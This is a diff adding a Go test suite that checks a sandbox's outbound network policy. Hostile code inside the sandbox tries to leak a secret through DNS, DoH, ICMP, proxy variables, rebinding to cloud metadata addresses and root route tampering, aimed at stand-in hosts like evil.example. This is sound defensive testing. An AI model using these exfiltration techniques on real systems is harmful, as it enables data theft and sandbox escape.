@@ -1,0 +1,631 @@
+package attacks
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/bothy-dev/bothy/test/harness"
+)
+
+// The attacks on the way out (A). A test lets hostile code inside try, and
+// looks at what the host sent: nothing but what a rule allows. That something
+// is allowed, and arrives, shows each time that it would have seen the rest.
+
+// The hosts that all these sandboxes may reach, one by IPv4 and one by IPv6,
+// the ways to them, and what those leave.
+const (
+	allowed4, allowed6 = "four.ok.example", "six.ok.example"
+	control4, control6 = "hello=" + allowed4 + ":443", "hello=" + allowed6 + ":443"
+)
+
+var controlLeaves = []string{
+	"dns " + allowed4, "dns " + allowed6, "tcp " + anyHost4.String() + ":443", "tcp [" + anyHost6.String() + "]:443",
+}
+
+// spy is a sandbox with hostile code in it.
+type spy struct {
+	*harness.Caller
+	stage *stage
+	mark  string // of its secret
+	me    string
+}
+
+// newSpy makes the sandbox box, which may reach two hosts.
+func newSpy(t *testing.T, c *harness.Caller, s *stage) *spy {
+	t.Helper()
+	s.leads(allowed4, anyHost4.String())
+	s.leads(allowed6, anyHost6.String())
+	c.Must(t, "policy", "allow", allowed4+":443", allowed6+":443")
+	p := &spy{Caller: c, stage: s, mark: newMark(), me: install(t, c, c.Work)}
+	c.Must(t, "create", "--name", "box", "shell", c.Work)
+	return p
+}
+
+// tries runs the hostile code as root inside, and then reaches what is allowed.
+func (p *spy) tries(t *testing.T, ways ...string) string {
+	t.Helper()
+	return p.reaches(t, p.Must(t, append([]string{"exec", "-u", "root", "box"}, p.argv(ways...)...)...))
+}
+
+// argv is the hostile program with its arguments.
+func (p *spy) argv(ways ...string) []string {
+	return append(append([]string{p.me, "intruder", "net", p.mark}, ways...), "then", control4, control6)
+}
+
+// reaches makes sure that the allowed hosts were reached.
+func (p *spy) reaches(t *testing.T, out string) string {
+	t.Helper()
+	if !strings.Contains(out, "GOT "+control4+`: "hello`) || !strings.Contains(out, "GOT "+control6+`: "hello`) {
+		t.Errorf("what is allowed was not reached:\n%s", out)
+	}
+	return out
+}
+
+// onlyControl stops the sandbox, so that everything is done, and complains of
+// whatever left but what the allowed hosts were told and, if need be, more.
+func (p *spy) onlyControl(t *testing.T, more ...string) {
+	t.Helper()
+	p.ends(t)
+	p.stage.onlyLeft(t, append(more, controlLeaves...)...)
+}
+
+// ends stops the sandbox, and complains if what it should keep went out.
+func (p *spy) ends(t *testing.T) {
+	t.Helper()
+	if r := p.Run("stop", "box"); r.Code != 0 {
+		t.Errorf("%v", r)
+	}
+	p.stage.fence(t)
+	if p.stage.carries(p.mark) {
+		t.Error("the secret left the host")
+	}
+	for _, v := range p.stage.saw() {
+		if strings.Contains(v.said, p.mark) {
+			t.Errorf("%s was told %q", v.at, v.said)
+		}
+	}
+}
+
+// Hosts by their addresses: IPv4, IPv6, and IPv4 in all the ways IPv6 has to
+// write it.
+var literals = []string{
+	"8.8.8.8", "1.1.1.1", "[2001:4860:4860::8888]", "[2606:4700:4700::1111]", "[::ffff:8.8.8.8]", "[64:ff9b::808:808]", "[2002:808:808::1]",
+}
+
+// everyWay is all that might reach a host.
+func everyWay(host string) []string {
+	bare := strings.Trim(host, "[]")
+	return []string{
+		"tcp=" + host + ":443", "tcp=" + host + ":22", "http=" + host + ":80", "tcp=" + host + ":5432", "udp=" + host + ":53", "udp=" + host + ":443",
+		"udp=" + host + ":5353", "ping=" + bare, "frame=" + bare,
+	}
+}
+
+// forbidden is what no sandbox here may do, once each.
+func (p *spy) forbidden() []string {
+	name := p.mark + ".evil.example"
+	ways := []string{"tcp=" + name + ":443", "dns=198.18.0.1:53/16/" + name, "dns=8.8.8.8:53/16/" + name, "tcp=192.168.7.7:22", "tcp=169.254.169.254:80"}
+	for _, host := range []string{"8.8.8.8", "[2001:4860:4860::8888]"} {
+		ways = append(ways, everyWay(host)...)
+	}
+	return ways
+}
+
+// TestA1NamesStayInside: a question for a name that is not allowed leaves the
+// host by no way: not of any type, not over TCP, not to another resolver, over
+// TLS, HTTPS or QUIC.
+func TestA1NamesStayInside(t *testing.T) {
+	onStage(t, func(t *testing.T, c *harness.Caller, s *stage) {
+		p := newSpy(t, c, s)
+		var ways []string
+		for _, kind := range []string{"0", "1", "5", "10", "12", "15", "16", "28", "33", "65", "252", "255"} { // A, CNAME, NULL, PTR, MX, TXT, AAAA, SRV, HTTPS, AXFR, ANY
+			for _, server := range []string{"198.18.0.1", "[fd62:6f74:6879::1]"} {
+				for _, name := range []string{p.mark + ".evil.example", p.mark + "." + allowed4, allowed4 + "." + p.mark + ".example"} {
+					ways = append(ways, "dns="+server+":53/"+kind+"/"+name, "tdns="+server+":53/"+kind+"/"+name)
+				}
+			}
+		}
+		for _, r := range append(literals, stageResolver.String()) {
+			ways = append(ways, "dns="+r+":53/16/"+p.mark+".evil.example", "tdns="+r+":53/16/"+p.mark+".evil.example",
+				"tcp="+r+":853", "udp="+r+":853", "sni="+r+":853/"+p.mark+".dns.google", "tcp="+r+":443", "udp="+r+":443", "http="+r+":80", "udp="+r+":5353")
+		}
+		for _, name := range []string{"dns.google", "cloudflare-dns.com", "dns.quad9.net", "mozilla.cloudflare-dns.com", p.mark + ".evil.example"} {
+			ways = append(ways, "tcp="+name+":443", "tcp="+name+":853", "web=https://"+name+"/dns-query?dns="+p.mark)
+		}
+		if out := p.tries(t, ways...); strings.Count(out, "GOT dns=198.18.0.1:53") == 0 || strings.Count(out, "GOT tdns=[fd62:6f74:6879::1]:53") == 0 {
+			t.Errorf("the sandbox's own name server does not answer:\n%s", out)
+		}
+		p.onlyControl(t)
+	})
+}
+
+// TestA1TalkInNamesIsRationed: below an allowed wildcard no more names leave
+// than what may carry a few KiB.
+func TestA1TalkInNamesIsRationed(t *testing.T) {
+	onStage(t, func(t *testing.T, c *harness.Caller, s *stage) {
+		p := newSpy(t, c, s)
+		c.Must(t, "policy", "allow", "**.wide.example")
+		p.tries(t, "names=wide.example,220")
+		p.ends(t)
+		carried := 0
+		for _, what := range s.left(t) {
+			if strings.HasSuffix(what, ".wide.example") {
+				carried += 37
+			}
+		}
+		if carried == 0 || carried > 7<<10 {
+			t.Errorf("%d bytes left in names", carried)
+		}
+	})
+}
+
+// TestA2NobodyAsksForADeniedName: no component does, inside or outside, whatever
+// it is about.
+func TestA2NobodyAsksForADeniedName(t *testing.T) {
+	onStage(t, func(t *testing.T, c *harness.Caller, s *stage) {
+		p := newSpy(t, c, s)
+		name := p.mark + ".evil.example"
+		c.Write(t, c.Work+"/bothy.yaml", "network: {allow: ["+name+", "+allowed4+", "+allowed6+"]}\n")
+		p.tries(t, "web=http://policy.bothy/check?url=https://"+name+"/", "web=http://"+name+"/", "tcp="+name+":22", "dns=198.18.0.1:53/1/"+name)
+		c.Must(t, "policy", "deny", name, "--sandbox", "box")
+		for _, args := range [][]string{
+			{"policy", "check", "https://" + name + "/", "--sandbox", "box"},
+			{"policy", "check", name},
+			{"policy", "ls", "--sandbox", "box"},
+			{"policy", "lint"},
+			{"policy", "log", "box"},
+			{"network", "log"},
+			{"inspect", "box"},
+			{"logs", "--source", "network", "box"},
+			{"top"},
+			{"doctor"},
+		} {
+			c.Run(args...)
+		}
+		p.tries(t, "tcp="+name+":443")
+		p.onlyControl(t)
+	})
+}
+
+// TestA3ICMPStaysInside: in a fresh sandbox, in one that was stopped, and after
+// its keeper was killed.
+func TestA3ICMPStaysInside(t *testing.T) {
+	onStage(t, func(t *testing.T, c *harness.Caller, s *stage) {
+		p := newSpy(t, c, s)
+		var ways []string
+		for _, to := range []string{"8.8.8.8", "2001:4860:4860::8888", "192.168.7.7", "fd12:3456::7", "198.18.0.1", "fd62:6f74:6879::1", anyHost4.String(), anyHost6.String()} {
+			ways = append(ways, "ping="+to)
+		}
+		p.tries(t, ways...)
+		c.Must(t, "stop", "box")
+		p.tries(t, ways...)
+		kill(t, c, "box")
+		p.tries(t, ways...)
+		p.onlyControl(t)
+	})
+}
+
+// kill ends a sandbox's keeper as the kernel would for want of memory.
+func kill(t *testing.T, c *harness.Caller, name string) {
+	t.Helper()
+	m := c.Machine(t, name)
+	if err := syscall.Kill(m.Keeper, syscall.SIGKILL); err != nil {
+		t.Fatal(err)
+	}
+	harness.WaitFor(t, 20*time.Second, "the sandbox's end", func() bool { return !harness.Alive(m.Keeper) && !harness.Alive(m.Sentry) })
+}
+
+// TestA4EveryWayToRun: there is no way to a running sandbox on which the policy
+// is missing.
+func TestA4EveryWayToRun(t *testing.T) {
+	onStage(t, func(t *testing.T, c *harness.Caller, s *stage) {
+		p := newSpy(t, c, s)
+		argv := p.argv(p.forbidden()...)
+		with := func(args ...string) []string { return append(args, argv...) }
+		plugin := filepath.Join(c.Base, "docker-sandbox")
+		if err := os.Symlink(c.Binary, plugin); err != nil {
+			t.Fatal(err)
+		}
+		for _, way := range []struct {
+			name  string
+			first func()
+			args  []string
+		}{
+			{"create and exec", nil, with("exec", "box")},
+			{"exec in a running one", nil, with("exec", "-u", "root", "box")},
+			{"exec after stop", func() { c.Must(t, "stop", "box") }, with("exec", "box")},
+			{"run after stop", func() { c.Must(t, "stop", "box") }, with("run", "--name", "box", "--")},
+			{"run in a running one", nil, with("run", "--name", "box", "--")},
+			{"exec after the keeper was killed", func() { kill(t, c, "box") }, with("exec", "box")},
+			{"exec after copying", func() {
+				c.Must(t, "stop", "box")
+				c.Must(t, "cp", c.Write(t, c.Home+"/note", "note"), "box:/tmp/note")
+			}, with("exec", "box")},
+			{"run", nil, with("run", "--name", "new", "shell", ".", "--")},
+			{"run --rm", nil, with("run", "--rm", "shell", ".", "--")},
+			{"the same name again", func() { c.Must(t, "rm", "-f", "new") }, with("run", "--name", "new", "shell", ".", "--")},
+		} {
+			if way.first != nil {
+				way.first()
+			}
+			t.Run(way.name, func(t *testing.T) { p.reaches(t, c.Must(t, way.args...)) })
+		}
+		for name, args := range map[string][]string{
+			"plugin: run":       with("sandbox", "run", "--name", "docked", "shell", ".", "--"),
+			"plugin: exec":      with("sandbox", "exec", "box"),
+			"plugin: run again": with("sandbox", "run", "--rm", "shell", ".", "--"),
+		} {
+			t.Run(name, func(t *testing.T) {
+				ctx, cancel := context.WithTimeout(t.Context(), harness.Timeout)
+				defer cancel()
+				cmd := c.Command(ctx, args...)
+				cmd.Path, cmd.Args[0] = plugin, plugin
+				p.reaches(t, harness.Finish(ctx, cmd, args).Stdout)
+			})
+		}
+		c.Must(t, "network", "proxy", "new", "--policy", "deny", "--allow-host", "extra.example")
+		t.Run("after docker's rules", func(t *testing.T) { p.reaches(t, c.Must(t, with("exec", "new")...)) })
+		t.Run("with rules of its own", func(t *testing.T) {
+			p.reaches(t, c.Must(t, with("run", "--rm", "--allow", "extra.example", "--preset", "npm", "shell", ".", "--")...))
+		})
+		for name, args := range map[string][]string{
+			"run -d": with("run", "-d", "--name", "away", "shell", ".", "--"), "exec -d": with("exec", "-d", "box"),
+		} {
+			t.Run(name, func(t *testing.T) {
+				s.saw()
+				c.Must(t, args...)
+				hellos := 0
+				harness.WaitFor(t, harness.Timeout, "what is allowed to arrive", func() bool {
+					for _, v := range s.saw() {
+						if v.said == "hello\n" {
+							hellos++
+						}
+					}
+					return hellos == 2
+				})
+			})
+		}
+		c.Must(t, "rm", "-f", "new", "docked", "away")
+		p.onlyControl(t)
+	})
+}
+
+// TestA5NothingIsNotEverything: without rules nothing is allowed; rules that
+// cannot be read are an error, and no sandbox runs by them.
+func TestA5NothingIsNotEverything(t *testing.T) {
+	onStage(t, func(t *testing.T, c *harness.Caller, s *stage) {
+		p := newSpy(t, c, s)
+		file := filepath.Join(c.State, "policy.yaml")
+		if err := os.Remove(file); err != nil {
+			t.Fatal(err)
+		}
+		args := append([]string{"exec", "box"}, p.argv(p.forbidden()...)...)
+		if out := c.Must(t, args...); strings.Contains(out, "GOT hello") {
+			t.Errorf("without rules:\n%s", out)
+		}
+		c.Must(t, "stop", "box")
+		for _, text := range []string{
+			"", "null\n", "{}\n", "[]\n", "version: 1\nallow:\n", "version: 1\nallow: []\n", "version: 1\nallow: null\n", "version: 1\nallow: ['']\n",
+			"version: 1\nallows: [" + allowed4 + "]\n", "version: 1\ndefault: open\n", "version: 1\npresets: [everything]\n", "version: 2\nallow: [" + allowed4 + "]\n",
+		} {
+			c.Write(t, file, text)
+			if r := c.Run(args...); r.Code == 0 || strings.Contains(r.Stdout, "GOT hello") || !strings.Contains(r.Stderr, "policy.yaml") {
+				t.Errorf("with %q: %v", text, r)
+			}
+		}
+		if err := os.Remove(file); err != nil {
+			t.Fatal(err)
+		}
+		p.ends(t)
+		s.onlyLeft(t)
+	})
+}
+
+// TestA6ContradictionsAreErrors: nothing is silently dropped because of
+// something else.
+func TestA6ContradictionsAreErrors(t *testing.T) {
+	harness.Each(t, func(t *testing.T, c *harness.Caller) {
+		c.Must(t, "create", "--name", "box", "shell", c.Work)
+		for _, args := range [][]string{
+			{"policy", "allow", "a.example", "a.example:443", ""},
+			{"policy", "allow"},
+			{"policy", "allow", "a.example,b.example"},
+			{"policy", "allow", "10.0.0.0/8", "--method", "get"},
+			{"policy", "allow", "a.example", "--path", "relative"},
+			{"policy", "allow", "a.example", "--for", "-1h"},
+			{"policy", "allow", "--preset", "none"},
+			{"policy", "deny", "--preset", "npm"},
+			{"policy", "allow", "--preset", "npm", "--method", "GET"},
+			{"policy", "allow", "a.example", "--sandbox", ""},
+			{"create", "--name", "new", "--allow", "a.example", "--deny", "a.example", "shell"},
+			{"create", "--name", "new", "--preset", "none", "--preset", "npm", "shell"},
+			{"create", "--name", "new", "--allow", "", "shell"},
+			{"run", "--name", "new", "--preset", "none", "--allow", "a.example", "shell", ".", "--", "true"},
+			{"network", "proxy", "box", "--allow-host", "a.example", "--block-host", "a.example"},
+			{"network", "proxy", "box", "--policy", "maybe"},
+			{"network", "proxy", "box", "--allow-cidr", "a.example"},
+		} {
+			if r := c.Run(args...); r.Code != 2 || !strings.Contains(r.Stderr, "bothy: ") {
+				t.Errorf("%v", r)
+			}
+		}
+		if out := c.Must(t, "policy", "ls"); strings.Contains(out, "a.example") {
+			t.Errorf("a part of a wrong command was done:\n%s", out)
+		}
+		for _, text := range []string{
+			"network: {presets: [none, npm]}\n", "network: {presets: [npm, npm]}\n", "network: {allow: [{host: a.example, passthrough: true, methods: [GET]}]}\n",
+			"network: {allow: [{host: a.example, passthrough: true, inspect: true}]}\n", "network: {allow: [a.example, A.example]}\n",
+		} {
+			c.Write(t, c.Work+"/bothy.yaml", text)
+			if r := c.Run("exec", "box", "true"); r.Code == 0 || !strings.Contains(r.Stderr, "bothy.yaml") {
+				t.Errorf("with %q: %v", text, r)
+			}
+		}
+		c.Must(t, "rm", "-f", "box")
+	})
+}
+
+// TestA7BothFamilies: what is closed is closed by IPv4, IPv6, and IPv4 in IPv6,
+// and a rule for one opens no other.
+func TestA7BothFamilies(t *testing.T) {
+	onStage(t, func(t *testing.T, c *harness.Caller, s *stage) {
+		p := newSpy(t, c, s)
+		c.Must(t, "policy", "allow", "203.14.0.0/16:443", "[2606:4444::/32]:443")
+		var ways []string
+		for _, host := range literals {
+			ways = append(ways, everyWay(host)...)
+		}
+		// Only the addresses themselves, at that port, are open.
+		ways = append(ways, "tcp=[64:ff9b::cb0e:1]:443", "tcp=[2002:cb0e:1::1]:443", "tcp=203.15.0.1:443", "tcp=203.14.0.1:80", "tcp=[2606:4445::1]:443", "tcp=[2606:4444::1]:80", "udp=203.14.0.1:443")
+		out := p.tries(t, append(ways, "then", "hello=203.14.0.1:443", "hello=[2606:4444::1]:443", "hello=[::ffff:203.14.0.2]:443")...)
+		for _, want := range []string{"GOT hello=203.14.0.1:443", "GOT hello=[2606:4444::1]:443"} {
+			if !strings.Contains(out, want) {
+				t.Errorf("no %q in\n%s", want, out)
+			}
+		}
+		// To the kernel inside a mapped address is IPv4.
+		p.onlyControl(t, "tcp 203.14.0.1:443", "tcp 203.14.0.2:443", "tcp [2606:4444::1]:443")
+	})
+}
+
+// TestA8RootCannotRemoveTheNetwork: root inside takes its card apart by the
+// kernel's own language; whatever it leaves, what is closed stays closed, and
+// what it does later is judged as before.
+func TestA8RootCannotRemoveTheNetwork(t *testing.T) {
+	onStage(t, func(t *testing.T, c *harness.Caller, s *stage) {
+		p := newSpy(t, c, s)
+		canaries := []string{"then", "tcp=8.8.8.8:443", "tcp=[2001:4860:4860::8888]:443", "udp=8.8.8.8:53", "tcp=192.168.7.7:22", "ping=8.8.8.8", "frame=8.8.8.8", "frame=192.168.7.7", "frame=2001:4860:4860::8888"}
+		attack := func(steps ...string) string {
+			ways := append([]string{"exec", "-u", "root", "box", p.me, "intruder", "net", p.mark}, steps...)
+			return c.Must(t, append(ways, canaries...)...)
+		}
+		taken := []string{"192.168.7.8/24", "8.8.8.8/32", "10.0.0.1/8", "2001:4860:4860::1/64", "127.0.0.2/8", "198.18.0.1/15", "fd62:6f74:6879::1/64"}
+		var back []string
+		for _, how := range append(taken, "namespace", "new card", "no routes", "routes", "no addresses", "10.1.1.1/8", "down") {
+			if out := attack("tamper=" + how); !strings.Contains(out, "GOT tamper=") && !strings.Contains(how, "routes") {
+				t.Errorf("%s cannot be done, so it tests nothing:\n%s", how, out)
+			}
+			if strings.Contains(how, "/") {
+				back = append(back, "tamper=-"+how)
+			}
+		}
+		p.tries(t, append(append(back, "tamper=own addresses", "tamper=up", "then"), p.forbidden()...)...)
+		attack("tamper=no card")
+		c.Must(t, "stop", "box")
+		p.tries(t, p.forbidden()...)
+		p.onlyControl(t)
+	})
+}
+
+// TestA9NamesThatLeadAstray: an allowed name leads to an address that is
+// closed, at once or the second time.
+func TestA9NamesThatLeadAstray(t *testing.T) {
+	onStage(t, func(t *testing.T, c *harness.Caller, s *stage) {
+		p := newSpy(t, c, s)
+		c.Must(t, "policy", "allow", "*.astray.example")
+		var ways, leaves []string
+		for i, to := range []string{
+			"127.0.0.1", "127.0.0.53", "0.0.0.0", "10.0.0.1", "172.16.0.1", "192.168.7.7", "169.254.169.254", "100.64.0.1", "100.100.100.200", "198.18.0.1", "198.51.100.1",
+			"192.0.0.1", "192.88.99.1", "224.0.0.1", "240.0.0.1", "255.255.255.255",
+			"::1", "::", "fe80::1", "fec0::1", "fd12:3456::7", "fd00:ec2::254", "ff02::1", "::ffff:127.0.0.1", "::ffff:10.0.0.1", "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe",
+			"64:ff9b:1::1", "2002:7f00:1::1", "2001:0:1::1", "2001:db8::1",
+		} {
+			name := fmt.Sprintf("n%d.astray.example", i)
+			s.leads(name, to)
+			ways, leaves = append(ways, "tcp="+name+":443", "tcp="+name+":22"), append(leaves, "dns "+name)
+		}
+		s.leads("turns.astray.example", anyHost4.String())
+		if out := p.tries(t, append(ways, "hello=turns.astray.example:443")...); !strings.Contains(out, "GOT hello=turns.") {
+			t.Errorf("an honest answer does not lead anywhere:\n%s", out)
+		}
+		s.leads("turns.astray.example", "192.168.7.7", "169.254.169.254", "::1")
+		p.tries(t, "tcp=turns.astray.example:443")
+		p.onlyControl(t, append(leaves, "dns turns.astray.example")...)
+	})
+}
+
+// TestA10LiteralWithAllowedName: a name shown in TLS opens no address, and an
+// address of an allowed name answers for no other name.
+func TestA10LiteralWithAllowedName(t *testing.T) {
+	onStage(t, func(t *testing.T, c *harness.Caller, s *stage) {
+		p := newSpy(t, c, s)
+		var ways []string
+		for _, host := range append(literals, anyHost4.String(), "["+anyHost6.String()+"]") {
+			ways = append(ways, "sni="+host+":443/"+allowed4, "sni="+host+":443/"+allowed6)
+		}
+		ways = append(ways, "sni="+allowed4+":443/"+p.mark+".evil.example", "sni="+allowed4+":443/"+p.mark+"."+allowed4)
+		p.tries(t, ways...)
+		p.onlyControl(t)
+	})
+}
+
+// TestA13PlainHTTP: HTTP without TLS is judged alike, at its own port and at any
+// other.
+func TestA13PlainHTTP(t *testing.T) {
+	onStage(t, func(t *testing.T, c *harness.Caller, s *stage) {
+		p := newSpy(t, c, s)
+		c.Must(t, "policy", "allow", allowed4+":80", allowed4+":8080", "--method", "GET", "--path", "/public/**")
+		var ways []string
+		for _, port := range []string{"80", "8080", "3128", "443"} {
+			for _, host := range []string{p.mark + ".evil.example", "8.8.8.8", "[2001:4860:4860::8888]", allowed6} {
+				if host != allowed6 || port != "443" {
+					ways = append(ways, "web=http://"+host+":"+port+"/"+p.mark)
+				}
+			}
+			if port != "443" {
+				ways = append(ways, "web=http://"+allowed4+":"+port+"/"+p.mark)
+			}
+		}
+		out := p.tries(t, append(ways, "web=http://"+allowed4+"/public/page", "web=http://"+allowed4+":8080/public/page")...)
+		if strings.Count(out, `"200 welcome\n"`) != 2 || strings.Count(out, `"403 `) != 2 {
+			t.Errorf("two requests should pass, and two be refused with a reason:\n%s", out)
+		}
+		for _, v := range s.saw() {
+			if v.said != "hello\n" && !strings.HasPrefix(v.said, "GET /public/page ") {
+				t.Errorf("%s was told %q", v.at, v.said)
+			}
+		}
+		p.onlyControl(t, "tcp "+anyHost4.String()+":80", "tcp "+anyHost4.String()+":8080")
+	})
+}
+
+// TestA14ProxyVariables: whether they are unset, forged or widened, nothing else
+// is let through, and what is allowed works without any.
+func TestA14ProxyVariables(t *testing.T) {
+	onStage(t, func(t *testing.T, c *harness.Caller, s *stage) {
+		p := newSpy(t, c, s)
+		c.Must(t, "policy", "allow", allowed4+":80")
+		ways := p.argv("web=http://"+p.mark+".evil.example/", "web=https://"+p.mark+".evil.example/", "web=http://8.8.8.8/"+p.mark, "web=http://"+allowed4+"/")
+		for _, proxy := range []string{"", "http://8.8.8.8:3128", "http://[2001:4860:4860::8888]:3128", "http://192.168.7.7:3128", "http://198.18.0.1:80"} {
+			for _, not := range []string{"evil.example", "*"} {
+				args := []string{"exec"}
+				for _, v := range []string{"HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"} {
+					args = append(args, "-e", v+"="+proxy)
+				}
+				args = append(args, "-e", "NO_PROXY="+not, "-e", "no_proxy="+not, "box")
+				out := p.reaches(t, c.Must(t, append(args, ways...)...))
+				if direct := proxy == "" || not == "*"; direct != strings.Contains(out, `GOT web=http://`+allowed4+`/: "200 welcome`) {
+					t.Errorf("with proxy %q, but not for %q:\n%s", proxy, not, out)
+				}
+			}
+		}
+		p.onlyControl(t, "tcp "+anyHost4.String()+":80")
+	})
+}
+
+// TestA15Metadata: what clouds tell their machines stays closed under preset
+// open, by address, by name and by a name that leads there.
+func TestA15Metadata(t *testing.T) {
+	onStage(t, func(t *testing.T, c *harness.Caller, s *stage) {
+		p := newSpy(t, c, s)
+		c.Write(t, filepath.Join(c.State, "policy.yaml"), "version: 1\npresets: [open]\n")
+		var ways, leaves []string
+		for i, a := range []string{
+			"169.254.169.254", "169.254.170.2", "169.254.170.23", "168.63.129.16", "100.100.100.200", "192.0.0.192", "fd00:ec2::254", "fd00:ec2::23", "fd20:ce::254",
+			"::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "64:ff9b::a83f:8110",
+		} {
+			name := fmt.Sprintf("n%d.rebound.example", i)
+			s.leads(name, a)
+			leaves = append(leaves, "dns "+name)
+			host := a
+			if strings.Contains(a, ":") {
+				host = "[" + a + "]"
+			}
+			for _, host := range []string{host, name} {
+				ways = append(ways, "tcp="+host+":80", "tcp="+host+":443", "http="+host+":8080")
+			}
+			ways = append(ways, "udp="+host+":53")
+		}
+		for _, name := range []string{"metadata.google.internal", "metadata", "instance-data", "instance-data.ec2.internal", "metadata.internal"} {
+			s.leads(name, "169.254.169.254")
+			ways = append(ways, "tcp="+name+":80", "dns=198.18.0.1:53/1/"+p.mark+"."+name)
+		}
+		p.tries(t, ways...)
+		p.onlyControl(t, leaves...)
+	})
+}
+
+// TestA16UDPIsRefused: QUIC and other datagrams are refused at once, by name and
+// by address, so that programs fall back to TCP.
+func TestA16UDPIsRefused(t *testing.T) {
+	onStage(t, func(t *testing.T, c *harness.Caller, s *stage) {
+		p := newSpy(t, c, s)
+		c.Must(t, "policy", "allow", "203.14.0.0/16", "[2606:4444::/32]", "udp.ok.example")
+		var ways []string
+		for _, host := range []string{allowed4, allowed6, "udp.ok.example", "203.14.0.1", "[2606:4444::1]", "8.8.8.8", "[2001:4860:4860::8888]", "198.18.0.1"} {
+			for _, port := range []string{"443", "80", "123", "853", "4500", "51820"} {
+				ways = append(ways, "udp="+host+":"+port)
+			}
+		}
+		out := p.tries(t, ways...)
+		for line := range strings.Lines(out) {
+			if strings.Contains(line, "udp=") && !strings.HasSuffix(line, "connection refused\n") {
+				t.Errorf("not refused: %s", line)
+			}
+		}
+		p.onlyControl(t)
+	})
+}
+
+// TestA20HostAndNeighbours: the host, its network, the gateway itself and other
+// sandboxes are closed, also where every public host is open.
+func TestA20HostAndNeighbours(t *testing.T) {
+	onStage(t, func(t *testing.T, c *harness.Caller, s *stage) {
+		p := newSpy(t, c, s)
+		c.Write(t, filepath.Join(c.State, "policy.yaml"), "version: 1\npresets: [open]\n")
+		c.Must(t, "run", "-d", "--name", "neighbour", "shell", ".", "--", p.me, "intruder", "net", p.mark, "serve=7777")
+		harness.WaitFor(t, 20*time.Second, "the neighbour", func() bool { _, err := os.Lstat(c.Work + "/serving"); return err == nil })
+		// The host is on the internet, too, and its rules say nothing of that.
+		s.leads("home.example", "93.184.216.7", "2606:2800:220:1::7", "192.168.7.7")
+		var ways []string
+		for _, host := range []string{
+			"93.184.216.7", "[2606:2800:220:1::7]", "[64:ff9b::5db8:d807]", "home.example",
+			"127.0.0.1", "127.0.0.53", "[::1]", "0.0.0.0", "[::]", "localhost", "192.168.7.7", "[fd12:3456::7]", "192.168.7.1", "10.0.2.2", "10.0.2.3", "172.17.0.1", "169.254.1.1", "100.64.0.1",
+			"[fe80::1%eth0]", "198.18.0.2", "198.18.0.3", "198.19.255.254", "[fd62:6f74:6879::2]", "[fd62:6f74:6879::3]", "224.0.0.251", "[ff02::fb]", "255.255.255.255", "198.19.0.1",
+			"host.docker.internal", "gateway.docker.internal", "host.containers.internal", "host.bothy", "box.bothy", "neighbour", "neighbour.bothy", "_gateway", "router.lan", "printer.local",
+		} {
+			for _, port := range []string{"22", "5432", "7777", "8080"} {
+				ways = append(ways, "tcp="+host+":"+port)
+			}
+		}
+		out := p.tries(t, append(ways, "scan=198.18.0.1,1,600", "scan=fd62:6f74:6879::1,1,200", "scan=198.18.0.1,8000,8100")...)
+		if strings.Contains(out, "GOT tcp=") || !strings.Contains(out, `,1,600: "53 80"`) || !strings.Contains(out, `,1,200: "53 80"`) || !strings.Contains(out, `8000,8100: ""`) {
+			t.Errorf("of the gateway, the host and others this is open:\n%s", out)
+		}
+		c.Must(t, "rm", "-f", "neighbour")
+		c.Must(t, "policy", "allow", "93.184.216.7:5432", "0.0.0.0/0", "--sandbox", "box")
+		if out := p.tries(t, "hello=93.184.216.7:5432", "tcp=93.184.216.7:22"); !strings.Contains(out, "GOT hello=93.184.216.7:5432") {
+			t.Errorf("the one port that is open is not:\n%s", out)
+		}
+		p.onlyControl(t, "dns home.example", "tcp 93.184.216.7:5432")
+	})
+}
+
+// TestA21DenyBeatsAllow: whoever denies wins, and a sandbox that may nothing is
+// given nothing by rules of its own.
+func TestA21DenyBeatsAllow(t *testing.T) {
+	onStage(t, func(t *testing.T, c *harness.Caller, s *stage) {
+		p := newSpy(t, c, s)
+		c.Must(t, "policy", "deny", "**.shut.example", "203.14.0.0/16")
+		r := c.Run("policy", "allow", "api.shut.example:443", "203.14.1.1:443", "--sandbox", "box")
+		if r.Code != 0 || strings.Count(r.Stderr, "never counts") != 2 {
+			t.Errorf("rules that say nothing are made without a word: %v", r)
+		}
+		ways := []string{"tcp=api.shut.example:443", "tcp=203.14.1.1:443", "tcp=v1.api.shut.example:443"}
+		p.tries(t, ways...)
+		c.Write(t, c.Work+"/bothy.yaml", "network: {allow: [api.shut.example, other.example, "+allowed4+", "+allowed6+"]}\n")
+		p.tries(t, append(ways, "tcp=other.example:443")...)
+		c.Must(t, "stop", "box")
+		c.Write(t, c.Work+"/bothy.yaml", "network: {presets: [none]}\n")
+		if r := c.Run(append([]string{"exec", "box"}, p.argv(ways...)...)...); strings.Contains(r.Stdout, "GOT") {
+			t.Errorf("with preset none: %v", r)
+		}
+		p.onlyControl(t)
+	})
+}
